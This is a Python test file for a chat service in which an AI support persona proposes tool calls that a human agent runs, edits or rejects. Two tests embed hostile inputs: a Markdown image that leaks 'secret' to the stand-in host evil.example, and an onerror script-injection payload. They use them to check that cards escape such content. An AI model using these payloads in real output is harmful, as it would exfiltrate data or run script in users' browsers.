"""Persona tools through the chat service on the real engine (tiny random-weight model) and a real SQLite
file: the prompt and grammar per draft, a proposed call split out of the reply, Run / Edit / Reject storing
the agent's decision and continuing the reply, the demo tools' effects, scoping, and the chat's cards."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from specdesk.app.chat_service import ChatService
from specdesk.app.tools import ToolBox, pending_call
from specdesk.app.tools_service import REJECTED_RESULT
from specdesk.app.turns import TurnState, TurnUpdate
from specdesk.app.views import chat_messages, feedback_values, live_bubble
from specdesk.db import MessageStatus, NotFoundError, Role
from specdesk.engine.llm import LLM
from tests.app.console_fixtures import make_service, tiny_console_llm


@pytest.fixture(scope="module")
def llm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LLM]:
    engine = tiny_console_llm(tmp_path_factory.mktemp("console-tools"))
    yield engine
    engine.shutdown()


@pytest.fixture
def service(llm: LLM, tmp_path: Path) -> ChatService:
    return make_service(llm, tmp_path / "specdesk.db", max_tokens=8)


def _proposal(service: ChatService, name: str, arguments: dict[str, Any], agent: str | None = None) -> int:
    """A retail conversation whose last reply proposes one call (as a reply the grammar shaped would)."""
    repo = service.repository
    conversation = service.new_conversation("retail", "Dana", agent=agent)
    repo.add_message(conversation.id, Role.USER, "Where is my order NW-1001?", agent=agent)
    reply = repo.start_assistant_message(conversation.id)
    call = {"id": "call_1", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}
    repo.finish_assistant_message(reply.id, "", tool_calls=[call])
    return conversation.id


def _only_code(markdown: str, text: str) -> bool:
    """The Markdown is one code block holding `text` (as CommonMark, which the chat's renderer follows)."""
    blocks = MarkdownIt("commonmark").parse(markdown)
    return [t.type for t in blocks] == ["fence"] and text in blocks[0].content


def _final(updates: Iterator[TurnUpdate] | None) -> TurnUpdate:
    assert updates is not None
    return list(updates)[-1]


def test_a_persona_with_tools_gets_their_prompt_section_and_grammar(service: ChatService) -> None:
    conversation = service.new_conversation("retail", "Dana")
    record = service.repository.get_conversation(conversation.id)
    messages = service.prompt_messages(record)
    assert messages[0]["role"] == "system" and "<tools>" in messages[0]["content"]
    assert all(name in messages[0]["content"] for name in ("lookup_order", "create_ticket", "escalate_to_human"))
    params, mode = service.tool_params(record, service.sampling_params())
    assert mode == "tagged" and params.structured_output is not None
    assert params.structured_output.kind == "structural_tag"  # "auto": free text, calls constrained
    plain = service.new_conversation("general")
    general = service.repository.get_conversation(plain.id)
    assert "<tools>" not in service.prompt_messages(general)[0]["content"]
    assert service.tool_params(general, service.sampling_params()) == (service.sampling_params(), None)


def test_run_stores_the_result_and_the_reply_continues(service: ChatService) -> None:
    conversation_id = _proposal(service, "lookup_order", {"order_number": "NW-1001"})
    waiting = pending_call(service.repository.get_conversation(conversation_id))
    assert waiting is not None and (waiting.call_id, waiting.name) == ("call_1", "lookup_order")

    final = _final(service.run_tool_call(conversation_id, "call_1"))
    assert final.state is TurnState.COMPLETE and final.num_tokens == 8
    conversation = service.repository.get_conversation(conversation_id)
    assert [(m.role, m.status) for m in conversation.messages] == [
        (Role.USER, MessageStatus.COMPLETE), (Role.ASSISTANT, MessageStatus.COMPLETE),
        (Role.TOOL, MessageStatus.COMPLETE), (Role.ASSISTANT, MessageStatus.COMPLETE),
    ]  # fmt: skip
    result = json.loads(conversation.messages[2].content)
    assert result["status"] == "shipped" and result["tracking_number"] == "JD014600003828"
    assert pending_call(conversation) is None
    # The continued draft read the call and its result back, and could call again ("auto").
    prompt = service.prompt_messages(conversation)
    assert any(m["content"].startswith("<tool_response>") and "JD014600003828" in m["content"] for m in prompt)
    assert any('"name": "lookup_order"' in m["content"] for m in prompt if m["role"] == "assistant")
    with pytest.raises(ValueError, match="no longer waiting"):
        service.run_tool_call(conversation_id, "call_1")


def test_retry_after_a_tool_ran_redrafts_only_what_follows_its_result(service: ChatService) -> None:
    args = {"subject": "Parcel lost", "description": "Trace it", "priority": "high"}
    conversation_id = _proposal(service, "create_ticket", args)
    _final(service.run_tool_call(conversation_id, "call_1"))
    before = service.repository.get_conversation(conversation_id).messages
    assert _final(service.retry(conversation_id)).state is TurnState.COMPLETE
    after = service.repository.get_conversation(conversation_id).messages
    # The ticket exists, so the call and its result stay; only the reply after them was drafted again.
    assert [m.id for m in after[:3]] == [m.id for m in before[:3]] and after[2].role is Role.TOOL
    assert len(after) == 4 and after[3].id > before[3].id  # a new reply (ids are never reused)
    # Editing the customer message would drop the record of a run whose effects (the ticket) stay: refused.
    with pytest.raises(ValueError, match="a tool has already run"):
        service.edit_last(conversation_id, "Parcel lost, please trace it")
    assert service.repository.get_conversation(conversation_id).messages == after


def test_edited_arguments_are_checked_then_run_and_stored(service: ChatService) -> None:
    conversation_id = _proposal(service, "create_ticket", {"subject": "Trace", "priority": "normal"})
    for bad, message in [("{oops", "not valid JSON"), ('{"subject": "x"}', "missing argument"),
                         ('{"subject": "x", "priority": "asap"}', "must be one of")]:  # fmt: skip
        with pytest.raises(ValueError, match=message):
            service.run_tool_call(conversation_id, "call_1", bad)
    assert len(service.repository.get_conversation(conversation_id).messages) == 2  # nothing stored
    edited = '{"subject": "Carrier trace for NW-1002", "priority": "high"}'
    assert _final(service.run_tool_call(conversation_id, "call_1", edited)).state is TurnState.COMPLETE
    conversation = service.repository.get_conversation(conversation_id)
    assert conversation.messages[1].tool_calls[0]["function"]["arguments"] == json.dumps(json.loads(edited))  # type: ignore[index]
    tickets = service.tools.repository.list_tickets(conversation_id=conversation_id)
    assert [(t["subject"], t["priority"]) for t in tickets] == [("Carrier trace for NW-1002", "high")]
    assert json.loads(conversation.messages[2].content)["ticket_id"] == tickets[0]["ticket_id"]


def test_reject_stores_the_rejection_and_the_reply_answers_without_tools(service: ChatService) -> None:
    conversation_id = _proposal(service, "escalate_to_human", {"reason": "chargeback", "urgency": "high"})
    before = service.repository.get_conversation(conversation_id)
    after_reject = _final(service.reject_tool_call(conversation_id, "call_1"))
    assert after_reject.state is TurnState.COMPLETE
    conversation = service.repository.get_conversation(conversation_id)
    rejection = conversation.messages[2]
    assert (rejection.role, rejection.status, rejection.content) == (Role.TOOL, MessageStatus.REJECTED, REJECTED_RESULT)
    assert service.tools.repository.list_handovers() == []  # it never ran
    # The continuation had no grammar ("none") but still saw the call and its rejection.
    upto_rejection = type(conversation)(**{**conversation.__dict__, "messages": conversation.messages[:3]})
    params, mode = service.tool_params(upto_rejection, service.sampling_params())
    assert params.structured_output is None and mode == "tagged"
    assert pending_call(before) is not None and pending_call(conversation) is None


def test_another_agent_can_neither_run_nor_reject(service: ChatService) -> None:
    conversation_id = _proposal(service, "escalate_to_human", {"reason": "x", "urgency": "high"}, agent="alice")
    with pytest.raises(NotFoundError):
        service.run_tool_call(conversation_id, "call_1", agent="bob")
    with pytest.raises(NotFoundError):
        service.reject_tool_call(conversation_id, "call_1", agent="bob")
    assert _final(service.run_tool_call(conversation_id, "call_1", agent="alice")).state is TurnState.COMPLETE
    assert [h["urgency"] for h in service.tools.repository.list_handovers(agent="alice")] == ["high"]
    assert service.tools.repository.list_handovers(agent="bob") == []


@pytest.mark.parametrize(
    ("text", "mode", "content", "names"),
    [
        ('{"name": "lookup_order", "arguments": {"order_number": "NW-1001"}}', "json", "", ["lookup_order"]),
        ('Checking.\n<tool_call>\n{"name": "lookup_order", "arguments": {"order_number": "NW-1"}}\n</tool_call>',
         "tagged", "Checking.", ["lookup_order"]),
        ("Just text.", "tagged", "Just text.", None),
        ('{"name": "lookup_order", "arguments": {"order_nu', "json", None, None),  # cut off: kept as text
        ('{"name": "lookup_order", "arguments": 3}', "json", None, None),  # not an object: kept as text
    ],
)  # fmt: skip
def test_a_complete_reply_splits_into_text_and_calls(
    text: str, mode: str, content: str | None, names: list[str] | None
) -> None:
    final = TurnUpdate(1, 2, TurnState.COMPLETE, text)
    stored, calls = ChatService.split_reply(final, mode)
    assert stored == (text if content is None else content)
    assert (None if calls is None else [c["function"]["name"] for c in calls]) == names
    stopped = TurnUpdate(1, 2, TurnState.STOPPED, text)
    assert ChatService.split_reply(stopped, mode) == (text, None)


def test_the_chat_shows_calls_and_results_as_escaped_cards(service: ChatService) -> None:
    evil = {"order_number": "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> ```"}
    conversation_id = _proposal(service, "lookup_order", evil)
    shown, ids = chat_messages(service.repository.get_conversation(conversation_id))
    card = shown[1]
    assert card["metadata"]["title"] == "🛠 Tool call · lookup\\_order · waiting for you"
    assert _only_code(card["content"], evil["order_number"])  # shown verbatim, as code: never an image or HTML
    _final(service.run_tool_call(conversation_id, "call_1"))
    conversation = service.repository.get_conversation(conversation_id)
    shown, ids = chat_messages(conversation)
    assert [m.get("metadata", {}).get("title") for m in shown[1:3]] == [
        "🛠 Tool call · lookup\\_order · ran", "📋 Result of lookup\\_order"
    ]  # fmt: skip
    assert _only_code(shown[2]["content"], "at most 32")  # a refused argument is a result the model reads
    assert len(ids) == len(shown) and ids[2] == conversation.messages[2].id
    assert len(feedback_values(conversation)) == sum(m["role"] == "assistant" for m in shown)


def test_a_required_choice_makes_the_draft_a_stored_call_through_the_grammar(llm: LLM, tmp_path: Path) -> None:
    """The real path: a tools file with tool_choice "required", the engine's grammar, the parser, the store."""
    tools_dir = tmp_path / "tools"
    tools_dir.mkdir()
    lookup = {"type": "function", "function": {"name": "lookup_order", "parameters": {
        "type": "object", "properties": {"order_number": {"type": "string", "pattern": "^NW-100[1-4]$"}},
        "required": ["order_number"], "additionalProperties": False}}}  # fmt: skip
    (tools_dir / "retail.json").write_text(json.dumps({"tool_choice": "required", "tools": [lookup]}))
    base = make_service(llm, tmp_path / "specdesk.db", max_tokens=160)
    service = ChatService(llm, base.repository, base.settings, tools=ToolBox(base.tools.repository, tools_dir))
    conversation = service.new_conversation("retail", "Dana")
    final = _final(service.send(conversation.id, "Where is NW-1001?"))
    assert final.state is TurnState.COMPLETE
    reply = service.repository.get_conversation(conversation.id).messages[1]
    assert reply.content == "" and reply.tool_calls is not None and len(reply.tool_calls) == 1
    call = reply.tool_calls[0]["function"]
    assert call["name"] == "lookup_order" and json.loads(call["arguments"])["order_number"].startswith("NW-100")
    assert _final(service.run_tool_call(conversation.id, reply.tool_calls[0]["id"])).state is TurnState.COMPLETE
    assert "error" not in json.loads(service.repository.get_conversation(conversation.id).messages[2].content)


def test_a_call_being_written_streams_as_a_card() -> None:
    def live(text: str) -> dict[str, Any]:
        return live_bubble(TurnUpdate(1, 2, TurnState.STREAMING, text))

    assert live("Hello there")["content"] == "Hello there ▍" and "metadata" not in live("Hello there")
    json_call = live('{"name": "lookup_order", "arguments": {"order_number": "NW-1')
    assert json_call["metadata"]["title"] == "🛠 Drafting a tool call…"
    assert _only_code(json_call["content"], '"order_number": "NW-1')
    tagged = live('Let me check. ![x](https://evil.example/)\n<tool_call>\n{"name": "lookup_order"')
    assert tagged["metadata"]["title"] == "🛠 Drafting a tool call…" and "Let me check." in tagged["content"]
    assert "![x]" not in tagged["content"] and '{"name": "lookup_order"' in tagged["content"]
